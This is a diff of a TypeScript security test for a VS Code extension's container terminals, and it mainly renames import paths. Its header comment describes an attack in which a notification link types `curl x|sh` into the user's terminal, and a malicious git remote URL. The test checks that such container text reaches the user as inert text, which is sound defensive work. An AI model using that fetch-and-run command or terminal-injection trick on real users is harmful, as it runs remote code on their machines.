@@ -5,7 +5,7 @@
  * - A process in a Toolbox shell prints an OSC 9 notification whose text is a VS Code command link
  *   (`workbench.action.terminal.sendSequence` typing `curl x|sh` into the active terminal). It goes
  *   through the real terminal (ToolboxShellPty: recogniser, state tracker) into the real nudge
- *   (ui/agentNudge.ts), on the stand-in vscode module: the notification it shows holds the words
+ *   (ui/agents/agentNudge.ts), on the stand-in vscode module: the notification it shows holds the words
  *   and no link. A thousand alternating OSC 133;C and OSC 9 then give no second notification.
  * - The container writes a remote whose URL is such a link into the repository it has mounted;
  *   New Agent Worktree's fetch on the host fails and git's `fatal:` line carries the URL into the
@@ -18,7 +18,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { after, before, describe, it } from 'node:test';
 import { objectNames } from '../../extension/src/contract/objects';
-import type { AgentStatus } from '../../extension/src/ui/agentState';
+import type { AgentStatus } from '../../extension/src/ui/agents/agentState';
 import { testBackend, type TestBackend } from '../support/backend';
 import { docker, removeNamespaceObjects } from '../support/docker';
 import { exitWhenDone } from '../support/exitGuard';
@@ -30,9 +30,11 @@ import { installVscodeLite, silentLog, vscodeLite } from '../support/vscodeLite'
 installVscodeLite();
 exitWhenDone('outside-text.test');
 /* eslint-disable @typescript-eslint/no-require-imports */
-const { ToolboxShellPty } = require('../../extension/src/ui/terminal') as typeof import('../../extension/src/ui/terminal');
-const { AgentNudge } = require('../../extension/src/ui/agentNudge') as typeof import('../../extension/src/ui/agentNudge');
-const { showEngineError } = require('../../extension/src/ui/commands/index') as typeof import('../../extension/src/ui/commands/index');
+const { ToolboxShellPty } =
+  require('../../extension/src/ui/shells/toolboxShellPty') as typeof import('../../extension/src/ui/shells/toolboxShellPty');
+const { AgentNudge } = require('../../extension/src/ui/agents/agentNudge') as typeof import('../../extension/src/ui/agents/agentNudge');
+const { showEngineError } =
+  require('../../extension/src/ui/engines/showEngineError') as typeof import('../../extension/src/ui/engines/showEngineError');
 /* eslint-enable @typescript-eslint/no-require-imports */
 
 type Pty = InstanceType<typeof ToolboxShellPty>;
@@ -111,7 +113,7 @@ describe('text a container writes reaches the user as text (issue 25, attack 2; 
     const terminal = new ToolboxShellPty({ container: session.name, start: (size) => session.start(size), log: silentLog as never });
     pty = terminal;
     terminal.onDidChangeAgent((s) => statuses.push(s));
-    // The nudge as the extension makes it, fed by this terminal (ui/shells.ts does this for each).
+    // The nudge as the extension makes it, fed by this terminal (ui/shells/shellLauncher.ts does this for each).
     const shells = {
       onDidChangeAgent: (listener: (a: unknown) => void) =>
         terminal.onDidChangeAgent((status) => listener({ key: 1, container: session.name, title: prepared.title, status })),
